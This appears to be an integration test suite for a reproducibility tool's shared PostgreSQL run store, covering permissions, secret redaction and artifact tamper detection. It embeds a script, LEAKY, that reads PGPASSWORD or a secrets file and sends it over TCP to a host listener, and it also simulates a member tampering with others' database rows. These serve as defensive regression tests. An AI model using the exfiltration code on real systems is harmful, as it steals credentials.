"""A team's record store on a real PostgreSQL server: chosen by URL (REPRO_STORE or --store),
errors that name the server and never the password, a run launched from one home listed and
shown from another."""

from __future__ import annotations

import json
import os
import socket

import pytest

from tests.helpers import repro
from tests.integration.conftest import add_spec, launch_json
from tests.integration.test_replay import run_json


def test_a_run_launched_into_postgres_is_seen_from_another_home(proj, pg_server, tmp_path,
                                                                monkeypatch):
    pg_server.create_role("alice", "alice-s3cret")
    pg_server.create_db("team", owner="alice")
    url = pg_server.url("alice", "alice-s3cret", "team")
    monkeypatch.setenv("REPRO_STORE", url)
    spec = add_spec(proj, "hello-team", """\
        command: [python3, /repro/code/hello.py]
        seed: 1
        """)
    p, run = launch_json(proj, spec, env={"REPRO_USER": "alice@example.com"})
    assert p.returncode == 0, p.stderr
    assert "alice-s3cret" not in p.stderr + p.stdout
    assert run["user"] == "alice@example.com" and run["host"] == socket.gethostname()
    other = {"REPRO_HOME": str(tmp_path / "bob-home"), "REPRO_STORE": ""}
    p, rows = run_json("--store", url, "runs", cwd=tmp_path, env=other)
    assert p.returncode == 0, p.stderr
    assert [r["id"] for r in rows] == [run["id"]]
    p, shown = run_json("--store", url, "show", run["id"][:6], cwd=tmp_path, env=other)
    assert p.returncode == 0 and shown["status"] == "succeeded", p.stderr
    p, found = run_json("--store", url, "runs", "--where", "name = hello-team and status = "
                        "succeeded and user = 'alice@example.com'", cwd=tmp_path, env=other)
    assert len(found) == 1 and found[0]["user"] == "alice@example.com"
    p, none = run_json("--store", url, "runs", "--where", "user ~ bob", cwd=tmp_path, env=other)
    assert none == []
    p = repro("--store", url, "runs", cwd=tmp_path, env=other)
    assert "alice" in p.stdout and "user" in p.stdout  # the table's user column
    # libpq's own sources of a password work: PGPASSWORD here
    bare = pg_server.url("alice", None, "team")
    p, rows = run_json("--store", bare, "runs", cwd=tmp_path,
                       env={**other, "PGPASSWORD": "alice-s3cret"})
    assert p.returncode == 0 and len(rows) == 1, p.stderr


def test_a_bad_password_or_host_is_one_line_naming_the_server(pg_server, tmp_path):
    pg_server.create_db("team2")
    env = {"REPRO_HOME": str(tmp_path / "h"), "REPRO_STORE": ""}
    wrong = pg_server.url("postgres", "not-the-pass-77", "team2")
    p = repro("--store", wrong, "runs", cwd=tmp_path, env=env)
    assert p.returncode == 5, p.stderr
    lines = p.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in p.stderr
    assert f"127.0.0.1:{pg_server.port}/team2" in lines[0]
    assert "not-the-pass-77" not in p.stderr
    p = repro("--store", "postgresql://x:pw-zz@127.0.0.1:1/db", "runs", cwd=tmp_path, env=env)
    assert p.returncode == 5 and "127.0.0.1:1/db" in p.stderr and "pw-zz" not in p.stderr
    assert len(p.stderr.strip().splitlines()) == 1


def test_a_teammate_verifies_a_run_from_an_empty_home_with_two_urls(proj, home, pg_server,
                                                                    tmp_path, monkeypatch):
    """Records on PostgreSQL, artifacts in a shared folder (file://): bob, with nothing but
    the two URLs and an empty home, re-proves alice's run, and the verdict is in the team
    store for alice to see."""
    pg_server.create_db("team3")
    shared = tmp_path / "shared-artifacts"
    shared.mkdir()
    urls = {"REPRO_STORE": pg_server.url(db="team3"), "REPRO_ARTIFACTS": f"file://{shared}"}
    for k, v in urls.items():
        monkeypatch.setenv(k, v)
    spec = add_spec(proj, "digits-team", """\
        image: {build: ../images/train}
        code: {path: ../examples/digits}
        command: [python3, /repro/code/train.py, --epochs=2]
        inputs:
          digits: {path: ../data/digits.npy}
        seed: 3
        """)
    p, run = launch_json(proj, spec, env={"REPRO_USER": "alice"})
    assert p.returncode == 0, p.stderr
    assert any(shared.glob("??/*")) and not any(home.glob("artifacts/??/*"))
    bob = {"REPRO_HOME": str(tmp_path / "bob-home"), "REPRO_USER": "bob"}
    # bob shares this machine's engine and images are not archived here: his grant says he
    # runs alice's run in the engine's copy of its image (issue 21, M8)
    p = repro("verify", run["id"], "--local-image", cwd=tmp_path, env=bob, timeout=600)
    assert p.returncode == 0, p.stdout + p.stderr
    assert "IDENTICAL" in p.stdout + p.stderr
    p, shown = run_json("show", run["id"], cwd=tmp_path)
    assert [r["verdict"] for r in shown["replays"]] == ["identical"]
    p, replays = run_json("runs", "--where", "user = bob", cwd=tmp_path)
    assert [r["replay_of"] for r in replays] == [run["id"]]

    # bob registers alice's number before sharing it: a card, and the run is published
    metric = sorted(run["metrics"])[0]
    p, card = run_json("cite", run["id"], "--metric", metric, cwd=tmp_path, env=bob)
    assert p.returncode == 0, p.stderr
    # one role for the whole team here: the store cannot tell alice from bob, and says so
    assert card["value"] == run["metrics"][metric] and card["says"] == "alice"
    assert card["user"] == card["last_verdict"]["by"] == "postgres"
    assert card["last_verdict"]["says"] == "bob"
    assert card["last_verdict"]["result"] == "identical"
    assert card["code"]["snapshot"] == run["resolved"]["code"]["snapshot"]
    plain_url = urls["REPRO_STORE"].replace(":test-superuser-pass", "")
    assert card["reprove"] == (f"REPRO_STORE={plain_url} REPRO_ARTIFACTS=file://{shared} "
                               f"repro verify {run['id']}")
    assert card["published"]["cited_by"] == "postgres"  # the role that cited it

    p = repro("cite", run["id"], "--markdown", cwd=tmp_path, env=bob)
    assert "Re-prove it:" in p.stdout and "test-superuser-pass" not in p.stdout
    p, rows = run_json("runs", cwd=tmp_path)
    assert [r["published"] for r in rows if r["id"] == run["id"]] == [True]
    p = repro("rm", run["id"], cwd=tmp_path)
    assert p.returncode != 0 and "is published" in p.stderr
    p = repro("cite", replays[0]["id"], cwd=tmp_path)
    assert p.returncode == 2 and "is a replay of" in p.stderr


def test_artifacts_in_a_registry_are_fetched_verified_and_kept_by_run(proj, home, pg_server,
                                                                      tmp_path, monkeypatch):
    """REPRO_ARTIFACTS=oci://: every artifact a blob of a real registry, each run a manifest
    tagged with its id; bob verifies alice's run from an empty home through his own cache,
    and a blob altered in the registry's storage is refused, never used."""
    import json
    import urllib.request

    from tests.integration.test_replay import serve_registry

    pg_server.create_db("team4")
    (tmp_path / "reg").mkdir()
    with serve_registry(tmp_path / "reg") as registry:
        urls = {"REPRO_STORE": pg_server.url(db="team4"),
                "REPRO_ARTIFACTS": f"oci://{registry}/team/artifacts"}
        for k, v in urls.items():
            monkeypatch.setenv(k, v)
        spec = add_spec(proj, "hello-oci", """\
            command: [python3, /repro/code/hello.py]
            seed: 5
            """)
        p, run = launch_json(proj, spec)
        assert p.returncode == 0, p.stderr
        base = f"http://{registry}/v2/team/artifacts"
        tags = json.load(urllib.request.urlopen(f"{base}/tags/list"))["tags"]
        image = run["resolved"]["image"]["digest"].split(":", 1)[1]
        assert sorted(tags) == sorted([run["id"], f"image-{image[:12]}"])  # and its image
        req = urllib.request.Request(f"{base}/manifests/{run['id']}", headers={
            "Accept": "application/vnd.oci.image.manifest.v1+json"})
        manifest = json.load(urllib.request.urlopen(req))
        layers = {layer["digest"] for layer in manifest["layers"]}
        assert run["resolved"]["code"]["snapshot"] in layers
        assert manifest["annotations"]["org.repro.run"] == run["id"]
        assert not any(home.glob("artifacts/??/*"))  # only the verified cache holds copies

        bob = {"REPRO_HOME": str(tmp_path / "bob-home")}
        p = repro("verify", run["id"], cwd=tmp_path, env=bob, timeout=600)
        assert p.returncode == 0 and "IDENTICAL" in p.stdout + p.stderr, p.stdout + p.stderr
        assert any((tmp_path / "bob-home" / "cache" / "artifacts").glob("??/*"))

        snapshot = run["resolved"]["code"]["snapshot"].split(":", 1)[1]
        blob = next((tmp_path / "reg" / "registry-data").rglob(f"blobs/sha256/{snapshot[:2]}/"
                                                               f"{snapshot}/data"))
        blob.chmod(0o644)
        blob.write_bytes(blob.read_bytes() + b"tampered")
        carol = {"REPRO_HOME": str(tmp_path / "carol-home")}
        p = repro("verify", run["id"], cwd=tmp_path, env=carol, timeout=600)
        assert p.returncode != 0 and "Traceback" not in p.stderr
        assert f"sha256:{snapshot}" in p.stdout + p.stderr and "corrupt" in p.stdout + p.stderr


def test_a_team_of_five_launches_at_once_and_each_reproves_anothers_run(proj, pg_server,
                                                                        tmp_path):
    """Five members, five homes, five roles, one PostgreSQL store and one shared folder:
    five launches at once, every run visible to every member, each member re-proves the
    next member's run from an empty home, and no member can alter another's run."""
    import subprocess
    import sys

    import psycopg

    pg_server.create_role("team5_admin", "admin-pw")
    db = pg_server.create_db("five", owner="team5_admin")
    members = [f"m{i}" for i in range(5)]
    for m in members:
        pg_server.create_role(m, f"{m}-pw")
    shared = tmp_path / "shared"
    shared.mkdir()
    p = repro("--store", pg_server.url("team5_admin", "admin-pw", db), "runs", cwd=tmp_path,
              env={"REPRO_HOME": str(tmp_path / "admin")})  # the admin sets the schema up
    assert p.returncode == 0, p.stderr

    def env(m: str, home: str) -> dict[str, str]:
        return {**os.environ, "REPRO_HOME": str(tmp_path / home), "REPRO_USER": m,
                "REPRO_STORE": pg_server.url(m, f"{m}-pw", db),
                "REPRO_ARTIFACTS": f"file://{shared}", "REPRO_ARCHIVE_IMAGES": "0"}

    spec = add_spec(proj, "hello-five", "command: [python3, /repro/code/hello.py]\nseed: 7\n")
    procs = [subprocess.Popen([sys.executable, "-m", "orchestrator", "launch",
                               str(spec.relative_to(proj)), "--json"], cwd=proj,
                              env=env(m, f"home-{m}"), stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for m in members]
    runs = {}
    for m, proc in zip(members, procs, strict=True):
        out, err = proc.communicate(timeout=600)
        assert proc.returncode == 0 and "Traceback" not in err, err
        runs[m] = json.loads(out)
        assert runs[m]["user"] == m and runs[m]["status"] == "succeeded"

    for m in members:  # every member sees every run, with who launched it
        p = repro("runs", "--json", cwd=tmp_path, env=env(m, f"home-{m}"))
        assert sorted((r["user"], r["id"]) for r in json.loads(p.stdout)) == sorted(
            (who, r["id"]) for who, r in runs.items())
        assert all(r["recorded_by"] == r["user"] for r in json.loads(p.stdout))  # its role

    verifies = [subprocess.Popen([sys.executable, "-m", "orchestrator", "verify",  # one engine
                                  runs[members[(i + 1) % 5]]["id"], "--json", "--local-image"],
                                 cwd=tmp_path,
                                 env=env(m, f"empty-{m}"), stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, text=True)
                for i, m in enumerate(members)]
    for i, proc in enumerate(verifies):
        out, err = proc.communicate(timeout=600)
        assert proc.returncode == 0, err
        replay = json.loads(out)
        assert replay["verdict"]["result"] == "identical"
        assert replay["replay_of"] == runs[members[(i + 1) % 5]]["id"]
        assert replay["user"] == members[i]

    # m0 cannot alter m1's run: the database refuses, whatever the client does
    target = runs["m1"]["id"]
    p = repro("rm", target, cwd=tmp_path, env=env("m0", "home-m0"))
    assert p.returncode != 0 and len(p.stderr.strip().splitlines()) == 1, p.stderr
    with psycopg.connect(pg_server.url("m0", "m0-pw", db), autocommit=True) as conn:
        assert conn.execute("UPDATE runs SET status = 'failed' WHERE id = %s",
                            (target,)).rowcount == 0
        assert conn.execute("DELETE FROM run_metrics WHERE run_id = %s",
                            (target,)).rowcount == 0
        assert conn.execute("DELETE FROM runs WHERE id = %s", (target,)).rowcount == 0
    # issue 21, M1: m0's tag of the same key is m0's own: it neither blocks nor replaces the
    # author's, which is the one shown
    p = repro("tag", target, "owner=m0", cwd=tmp_path, env=env("m0", "home-m0"))
    assert p.returncode == 0, p.stderr
    repro("tag", target, "owner=m1", cwd=tmp_path, env=env("m1", "home-m1"))
    p = repro("show", target, "--json", cwd=tmp_path, env=env("m2", "home-m2"))
    shown = json.loads(p.stdout)
    assert shown["status"] == "succeeded" and shown["tags"] == {"owner": "m1"}
    assert len(shown["replays"]) == 1 and shown["recorded_by"] == "m1"
    assert shown["replays"][0]["recorded_by"] == "m0"  # m0 re-proved m1's run
    p = repro("cite", runs["m4"]["id"], "--json", cwd=tmp_path, env=env("m3", "home-m3"))
    assert p.returncode != 0 and "only a run's author cites it" in p.stderr  # not m3's
    p = repro("cite", runs["m4"]["id"], "--json", cwd=tmp_path, env=env("m4", "home-m4"))
    assert p.returncode == 0, p.stderr
    card = json.loads(p.stdout)
    assert card["user"] == "m4" and card["published"]["cited_by"] == "m4"
    assert card["last_verdict"]["result"] == "identical" and card["last_verdict"]["by"] == "m3"
    assert [(v["kind"], v["by"]) for v in card["verified"]] == [("full", "m3")]


LEAKY = """\
import os, socket, struct
secret = os.environ.get("PGPASSWORD", "")
if not secret and os.path.exists("/run/secrets/PGPASSWORD"):
    secret = open("/run/secrets/PGPASSWORD").read()
try:  # the host, as the default route's gateway
    route = next(l.split() for l in open("/proc/net/route") if l.split()[1] == "00000000")
    host = socket.inet_ntoa(struct.pack("<L", int(route[2], 16)))
    with socket.create_connection((host, int(os.environ["PORT"])), 3) as s:
        s.sendall(secret.encode() or b"nothing")
    sent = "sent"
except (OSError, StopIteration) as e:  # no route at all: no network
    sent = type(e).__name__
open("/repro/outputs/seen.txt", "w").write(f"secret {'read' if secret else 'absent'}; {sent}\\n")
"""


class Listener:
    """A TCP listener on the host (a job on the bridge network reaches it through its
    gateway): what a job sends it, it keeps."""

    def __init__(self) -> None:
        import threading

        self.sock = socket.create_server(("0.0.0.0", 0))
        self.port = self.sock.getsockname()[1]
        self.got: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                self.got.append(conn.recv(4096))

    def close(self) -> None:
        self.sock.close()


def test_a_teammates_run_in_the_team_store_takes_nothing_of_the_verifiers(
        proj, pg_server, tmp_path):
    """Issue 21, H1: a member's run asked for the verifier's secrets (PGPASSWORD, the very
    password of the team store) and network, and a teammate's `repro verify` gave both: the
    job sent the password to a listener, and verify said IDENTICAL. A run this user did not
    launch on this machine is foreign wherever it is: it gets only what the verifier grants,
    and never reads a host path its record names."""
    pg_server.create_role("h1_admin", "admin-pw")
    db = pg_server.create_db("h1", owner="h1_admin")
    pg_server.create_role("h1_alice", "h1_alice-pw")
    pg_server.create_role("h1_bob", "h1_bob-pw")
    shared = tmp_path / "shared"
    shared.mkdir()
    assert repro("--store", pg_server.url("h1_admin", "admin-pw", db), "runs", cwd=tmp_path,
                 env={"REPRO_HOME": str(tmp_path / "admin")}).returncode == 0

    def env(who: str) -> dict[str, str]:  # the password from PGPASSWORD, as CI passes it
        return {"REPRO_HOME": str(tmp_path / f"home-{who}"), "REPRO_USER": who,
                "REPRO_STORE": pg_server.url(f"h1_{who}", None, db),
                "PGPASSWORD": f"h1_{who}-pw",
                "REPRO_ARTIFACTS": f"file://{shared}"}

    listener = Listener()
    try:
        (proj / "examples" / "hello" / "leaky.py").write_text(LEAKY)
        (proj / "data" / "alice-data").mkdir()
        (proj / "data" / "alice-data" / "x.txt").write_text("alice's\n")
        spec = add_spec(proj, "leaky", f"""\
            command: [python3, /repro/code/leaky.py]
            secrets: [{{name: PGPASSWORD, env: true}}]
            network: bridge
            env: {{PORT: "{listener.port}"}}
            seed: 1
            """)
        p, run = launch_json(proj, spec, env=env("alice"))
        assert p.returncode == 0, p.stderr
        listener.thread.join(0.5)
        assert listener.got == [b"h1_alice-pw"]  # her own job, her own secret: her choice
        listener.got.clear()

        # M8: alice's run names an image bob's engine holds but does not bring it (no
        # archive, no registry): it is not run there unless bob grants it
        p, err = run_json("verify", run["id"], cwd=tmp_path, env=env("bob"))
        assert p.returncode == 9 and "pass --local-image" in err["error"]["message"]
        assert listener.got == []
        p, rec = run_json("verify", run["id"], "--local-image", cwd=tmp_path, env=env("bob"))
        assert p.returncode == 8, p.stdout + p.stderr  # honest: it ran without them
        asks = p.stderr[p.stderr.index("it asks for:"):]
        assert "network: bridge" in asks and "secrets: PGPASSWORD" in asks
        assert rec["resolved"]["secrets"] == [] and rec["resolved"]["network"] == "none"
        assert listener.got == []  # nothing left bob's machine, not even a connection
        notes = " | ".join(rec["warnings"])
        assert "--allow-network" in notes and "--secret NAME" in notes
        differ = rec["verdict"]["outputs"]["differ"][0]
        assert differ["path"] == "seen.txt"
        assert differ["content"]["replay"].startswith("secret absent; ")
        with __import__("psycopg").connect(pg_server.url("h1_admin", "admin-pw", db)) as conn:
            everything = json.dumps(conn.execute("SELECT record FROM runs").fetchall())
        assert "h1_bob-pw" not in everything

        # a host folder the record names is not read for a teammate: given, hash-checked
        spec = add_spec(proj, "folder-input", """\
            command: [python3, /repro/code/hello.py]
            inputs: {d: {path: ../data/alice-data}}
            seed: 2
            """)
        p, run = launch_json(proj, spec, env=env("alice"))
        assert p.returncode == 0, p.stderr
        p, err = run_json("verify", run["id"], "--local-image", cwd=tmp_path, env=env("bob"))
        assert p.returncode == 9 and "give it with --input d=PATH" in err["error"]["message"]
        p, rec = run_json("verify", run["id"], "--input", f"d={proj / 'data' / 'alice-data'}",
                          "--local-image", cwd=tmp_path, env=env("bob"))
        assert p.returncode == 0 and rec["verdict"]["result"] == "identical", p.stderr
        # alice verifying her own run on her machine: as before, nothing to grant
        p, mine = run_json("verify", run["id"], cwd=proj, env=env("alice"))
        assert p.returncode == 0 and "it asks for:" not in p.stderr, p.stderr
    finally:
        listener.close()


@pytest.mark.archive
def test_a_member_cannot_repoint_anothers_recipe_at_their_image(proj, pg_server, tmp_path,
                                                                engine, images):
    """Issue 21, H2: mallory repointed alice's recipe (recipe_images) at her own image, and
    alice's next launch loaded it and tagged it as her recipe. Now a recipe's image is each
    member's own: mallory neither sees nor changes alice's row, her own row is hers alone,
    and alice's launch runs the image she built."""
    import psycopg

    from tests.integration.test_replay import unique_image_project

    pg_server.create_role("h2_admin", "admin-pw")
    db = pg_server.create_db("h2", owner="h2_admin")
    for who in ("alice", "mallory"):
        pg_server.create_role(f"h2_{who}", f"{who}-pw")
    shared = tmp_path / "shared"
    shared.mkdir()
    assert repro("--store", pg_server.url("h2_admin", "admin-pw", db), "runs", cwd=tmp_path,
                 env={"REPRO_HOME": str(tmp_path / "admin")}).returncode == 0

    def env(who: str) -> dict[str, str]:
        return {"REPRO_HOME": str(tmp_path / f"home-{who}"), "REPRO_USER": who,
                "REPRO_STORE": pg_server.url(f"h2_{who}", f"{who}-pw", db),
                "REPRO_ARTIFACTS": f"file://{shared}"}

    spec = unique_image_project(proj)
    p, run = launch_json(proj, spec, env=env("alice"))
    assert p.returncode == 0, p.stderr
    hers = run["resolved"]["image"]["digest"]
    recipe = run["resolved"]["image"]["recipe_digest"]
    mallorys = images["train"]  # an image of her own
    with psycopg.connect(pg_server.url("h2_mallory", "mallory-pw", db), autocommit=True) as c:
        assert c.execute("SELECT count(*) FROM recipe_images").fetchone()[0] == 0
        assert c.execute("UPDATE recipe_images SET image_id = %s", (mallorys,)).rowcount == 0
        c.execute("INSERT INTO recipe_images (recipe_digest, image_id, built_at) VALUES "
                  "(%s, %s, 'now')", (recipe, mallorys))  # her own row: for her alone
        assert c.execute("UPDATE images SET archive_sha256 = 'x'").rowcount == 0
    # alice's engine loses the image and its tags: her next launch asks the store
    engine.remove_image(hers)
    try:
        p, again = launch_json(proj, spec, env=env("alice"))
        assert p.returncode == 0, p.stderr
        assert again["resolved"]["image"]["digest"] == hers
        assert "loading it from the store instead of rebuilding" in p.stderr
        assert engine.image(f"repro/recipe:{recipe[7:19]}")["id"] == hers
    finally:
        engine.remove_image(hers)
